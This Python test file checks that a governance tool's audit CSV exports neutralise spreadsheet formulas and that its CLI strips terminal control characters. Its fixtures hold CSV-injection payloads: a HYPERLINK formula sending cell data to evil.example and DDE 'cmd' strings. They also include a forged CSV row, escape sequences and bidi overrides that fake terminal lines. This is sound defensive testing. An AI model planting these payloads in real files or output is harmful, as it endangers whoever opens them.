"""What people put into the store cannot run in a spreadsheet or act on a terminal.

CSV injection: a formula planted through a refused attempt (the trail records the refused actor and entity as
given) must reach the exported CSV as text. Terminal forgery: escape sequences, carriage returns and bidi
overrides in a justification or comment must not reach the CLI's text output; JSON output stays faithful.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import unicodedata
from contextlib import redirect_stderr, redirect_stdout

import numpy as np
import pandas as pd
import pytest

from core import audit, csvsafe
from core.governance import approvals
from core.monitoring import ingest
from core.registry import catalog
from core.registry import versions
from core.cli import main
from core.cli import output as screen
from tests.conftest import make_version, synthetic_regression

FORMULA_ACTOR = '=hyperlink("https://evil.example/?leak="&a1,"open")@x.org'
FORMULA_ENTITIES = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already-quoted"]
FORGED_ROW = "alpha\r999,2026-01-01T00:00:00.000000,alan@example.com,user.grant,user,mallory@x.org,ok,{},x,y"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def _spreadsheet_would_evaluate(text: str) -> bool:
    """What Excel / LibreOffice / Sheets treat as a formula when opening a CSV (OWASP's list), numbers aside."""
    if not text or text[0] not in TRIGGERS:
        return False
    try:
        float(text)
    except ValueError:
        return True
    return any(word in text.lower() for word in ("inf", "nan")) or "_" in text or text != text.strip()


def _terminal_controls(text: str, *, newlines: bool = True) -> list[str]:
    """Characters a terminal acts on (Unicode category Cc, bidi controls, line/paragraph separators)."""
    return [c for c in text if (unicodedata.category(c) == "Cc" and not (newlines and c == "\n"))
            or c in BIDI or c in "\u2028\u2029"]


def _documented_hash(seq, ts, actor, action, entity_type, entity_id, outcome, payload, prev_hash):
    body = json.dumps([seq, ts, actor, action, entity_type, entity_id, outcome, payload, prev_hash],
                      sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return hashlib.sha256(body.encode()).hexdigest()


# --- CSV injection ----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+x", "'+x"), ("+1", "+1"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("'=x", "''=x"), ("''@x", "'''@x"), ("'plain", "'plain"), ("'", "'"), ("", ""), ("a=b", "a=b"),
    ("-0.25", "-0.25"), ("+3", "+3"), ("-1e-05", "-1e-05"), ("-.5", "-.5"), ("-1+2", "'-1+2"), ("-inf", "'-inf"),
    ("- 1", "'- 1"), (-3.5, -3.5), (7, 7), (None, None),
])
def test_a_cell_is_neutralised_exactly_when_a_spreadsheet_would_run_it(value, written):
    assert csvsafe.cell(value) == written
    if isinstance(value, str):
        assert csvsafe.original(written) == value                     # reversible: the export stays evidence
        assert not _spreadsheet_would_evaluate(written)


def test_a_frame_is_neutralised_cell_by_cell_and_numeric_columns_are_untouched():
    values = ["=1+1", "-2", "-x", "'=y", "ok", None, 3, "\tz", "+1e5", float("nan"), "@a"]
    df = pd.DataFrame({"mixed": values, "text": pd.array([v if isinstance(v, str) else None for v in values],
                                                         dtype="string"),
                       "score": np.linspace(-1, 1, len(values))})
    got = csvsafe.frame(df)
    for name in ("mixed", "text"):
        for before, after in zip(df[name], got[name]):
            if isinstance(before, str):
                assert after == csvsafe.cell(before)
            else:
                assert after is before or (pd.isna(after) and pd.isna(before)) or after == before
    assert got["score"].equals(df["score"]) and df["mixed"][0] == "=1+1"     # the input frame is not changed


def _plant_formulas_through_refused_attempts(store, cli):
    # The trail records a refused attempt with the actor and entity as given: that is the planting route.
    res = cli(store, "audit", "list", as_=FORMULA_ACTOR)
    assert res.code == 3
    for entity in FORMULA_ENTITIES:
        res = cli(store, "rollback", entity, "--env", "production", "--reason", "=2+2", as_="ada@example.com")
        assert res.code == 3, res.err
    # A bare carriage return inside a cell must not split the row into a forged one.
    res = cli(store, "rollback", FORGED_ROW, "--env", "production", "--reason", "x", as_="ada@example.com")
    assert res.code == 3, res.err


def test_formulas_planted_through_refused_attempts_export_as_text(store, people, cli, tmp_path):
    make_version(store, people["ds"], "alpha")
    _plant_formulas_through_refused_attempts(store, cli)
    stored = {e["seq"]: e for e in audit.list_events(store, people["ro"], limit=None)}
    assert FORMULA_ACTOR in {e["actor"] for e in stored.values()}
    assert set(FORMULA_ENTITIES) <= {e["entity_id"] for e in stored.values()}

    res = cli(store, "audit", "export", "--format", "csv", "-o", str(tmp_path / "trail.csv"), as_="rita@example.com")
    assert res.code == 0
    raw = (tmp_path / "trail.csv").read_bytes().decode("utf-8")
    assert raw == audit.export_csv(store, people["ro"])
    assert cli(store, "audit", "export", "--format", "csv", as_="alan@example.com").out == raw   # stdout alike
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert len(rows) == len(stored) and "999" not in {r["seq"] for r in rows}
    assert "alpha\r999" in raw and f'"{FORGED_ROW}"' in raw           # the CR stays, inside a quoted cell

    formula_rows = [r for r in rows if csvsafe.original(r["actor"]) == FORMULA_ACTOR]
    assert len(formula_rows) == 1 and formula_rows[0]["actor"] == "'" + FORMULA_ACTOR
    exported_entities = {r["entity_id"] for r in rows}
    for entity in FORMULA_ENTITIES:
        assert entity not in exported_entities and "'" + entity in exported_entities
    for r in rows:
        for name, value in r.items():
            assert not _spreadsheet_would_evaluate(value), (name, value)

    # Undoing the quote gives back exactly what the store holds: every row re-hashes to its hash, in chain order.
    prev = None
    for r in rows:
        seq = int(r["seq"])
        e = stored[seq]
        fields = {k: csvsafe.original(v) for k, v in r.items()}
        assert fields["actor"] == e["actor"] and fields["entity_id"] == e["entity_id"]
        digest = _documented_hash(seq, fields["ts"], fields["actor"], fields["action"], fields["entity_type"],
                                  fields["entity_id"], fields["outcome"], fields["payload"], fields["prev_hash"])
        assert digest == fields["hash"] == e["hash"]
        assert prev is None or fields["prev_hash"] == prev
        prev = fields["hash"]


def test_scored_output_neutralises_planted_request_ids_and_keeps_negative_scores(store, people, tmp_path):
    make_version(store, people["ds"], "reg", regression=True)
    rows = synthetic_regression(n=len(FORMULA_ENTITIES) + 3, seed=5).drop(columns=["y"])
    rows["rid"] = FORMULA_ENTITIES + ["-7", "42", "plain"]
    rows = rows[~rows["rid"].str.startswith(("\t", "\r"))]      # a CSV reader cannot take those as ids anyway
    rows.to_csv(tmp_path / "in.csv", index=False)
    r = ingest.score_file(store, people["ds"], "reg", 1, tmp_path / "in.csv", id_column="rid",
                              output=tmp_path / "out.csv")
    assert r.rows_ok == len(rows)
    out = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text(), newline="")))
    ids = [o["request_id"] for o in out]
    # Leading tab / CR in an id may be trimmed on the way in; what is written must never be a formula.
    assert not any(_spreadsheet_would_evaluate(i) for i in ids)
    for planted in ("=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                    "@SUM(1+1)*cmd|' /C calc'!A0"):
        assert "'" + planted in ids
    assert "-7" in ids and "42" in ids and "''=already-quoted" in ids
    _v, est = versions.load_model(store, "reg", 1)
    by_id = {csvsafe.original(o["request_id"]): float(o["score"]) for o in out}
    expected = est.predict(rows[["x1", "x2"]])
    assert (expected < 0).any()                                        # negative scores are exercised
    got = np.array([by_id[csvsafe.original(csvsafe.cell(str(i)))] for i in rows["rid"]])
    np.testing.assert_allclose(got, expected, rtol=1e-12)


# --- terminal output ------------------------------------------------------------------------------------------

HOSTILE = ("needed for Q3\x1b[8m hidden \x1b[0m\r\napproved by raj@example.com at 2026-01-01\x1b[1A\x1b[2K"
           " \u202ereversed\u202c \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b31m red \x07\x08\x7f end")


def _request_with_hostile_text(store, people):
    make_version(store, people["ds"], "credit")
    catalog.update_model(store, people["ds"], "credit", intended_use="x", limitations="y",
                          training_data_summary="z")
    r = approvals.request_deployment(store, people["ds"], "credit", 1, "staging", "champion", HOSTILE)
    approvals.approve(store, people["ro"], r.id, "fine\x1b[2J\x1b[H\u202egnidaol", override_reason=None)
    return r.id


def test_approvals_show_prints_no_control_characters_and_json_stays_faithful(store, people, cli):
    rid = _request_with_hostile_text(store, people)
    res = cli(store, "approvals", "show", str(rid), as_="rita@example.com")
    assert res.code == 0, res.err
    assert _terminal_controls(res.out) == []
    text_lines = res.out.splitlines()
    assert not any(ln.startswith("approved by raj") for ln in text_lines)   # no forged line
    assert "needed for Q3 hidden" in res.out and "end" in res.out            # the words stay readable
    assert "[8m" not in res.out and "[1A" not in res.out and "]8;;" not in res.out
    res = cli(store, "approvals", "show", str(rid), "--json", as_="rita@example.com")
    shown = json.loads(res.out)
    assert shown["reason"] == HOSTILE.strip()
    assert [d["comment"] for d in shown["decisions"]] == ["fine\x1b[2J\x1b[H\u202egnidaol"]


def test_audit_list_prints_no_control_characters(store, people, cli):
    _request_with_hostile_text(store, people)
    sneaky = "x\x1b[1A\x1b[2K\u202eok\x9b2J@evil.example"
    assert cli(store, "audit", "list", as_=sneaky).code == 3               # planted as a refused actor
    res = cli(store, "rollback", "credit\x1b[8m\r\n5  2026  alan@example.com  user.grant", "--env", "production",
              "--reason", "x", as_="ada@example.com")
    assert res.code == 3 and res.err.count("\n") == 1
    assert _terminal_controls(res.err.rstrip("\n"), newlines=False) == []
    res = cli(store, "audit", "list", "--limit", "50", as_="alan@example.com")
    assert res.code == 0 and _terminal_controls(res.out) == []
    assert not any(ln.startswith("5  2026") for ln in res.out.splitlines())
    events = json.loads(cli(store, "audit", "list", "--json", as_="alan@example.com").out)
    assert sneaky.lower() in {e["actor"] for e in events}                  # JSON is faithful (e-mails are lower-cased)


def test_error_sentences_carry_no_control_characters(store, cli):
    res = cli(store, "models", "show", "credit\x1b]0;pwned\x07\x1b[2J\u202e")
    assert res.code in (2, 5) and res.err.count("\n") == 1
    assert _terminal_controls(res.err.rstrip("\n"), newlines=False) == []


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_csv_export_to_a_terminal_is_cleaned_and_to_a_pipe_is_exact(store, people, cli):
    cli(store, "audit", "list", as_="evil\x1b[8m@x.org")
    argv = ["--home", str(store.home), "--as", "rita@example.com", "audit", "export", "--format", "csv"]
    piped, tty = io.StringIO(), _Terminal()
    with redirect_stdout(piped), redirect_stderr(io.StringIO()):
        assert main(argv) == 0
    with redirect_stdout(tty), redirect_stderr(io.StringIO()):
        assert main(argv) == 0
    assert "evil\x1b[8m@x.org" in piped.getvalue()
    assert _terminal_controls(tty.getvalue()) == [] and "evil@x.org" in tty.getvalue()


@pytest.mark.parametrize("raw, as_text, as_line", [
    ("a\x1b[31mred\x1b[0m", "ared", "ared"),
    ("a\x1b[8mhidden", "ahidden", "ahidden"),
    ("up\x1b[1A\x1b[2Kwrite", "upwrite", "upwrite"),
    ("x\x1b]8;;https://e.example\x07link\x1b]8;;\x1b\\y", "xlinky", "xlinky"),
    ("title\x1b]0;unterminated\nnext line", "title\nnext line", "title"),
    ("8bit\x9b1mcsi\x9d0;t\x9cz", "8bitcsiz", "8bitcsiz"),
    ("reset\x1bc done \x1b(B ok", "reset done  ok", "reset done  ok"),
    ("\u202eevil\u202c \u2066iso\u2069 \u200f", "evil iso ", "evil iso "),
    ("bell\x07 back\x08 del\x7f nul\x00", "bell back del nul", "bell back del nul"),
    ("one\r\ntwo\rthree\u2028four", "one\ntwo\nthree\nfour", "one↵two↵three↵four"),
    ("tab\there", "tab\there", "tab here"),
    ("café 中文 👩‍💻 ✓", "café 中文 👩‍💻 ✓", "café 中文 👩‍💻 ✓"),
])
def test_terminal_text_helper(raw, as_text, as_line):
    assert screen.text(raw) == as_text and screen.line(raw) == as_line
    assert _terminal_controls(screen.text(raw)) == [] or "\t" in raw
    assert _terminal_controls(screen.line(raw), newlines=False) == []
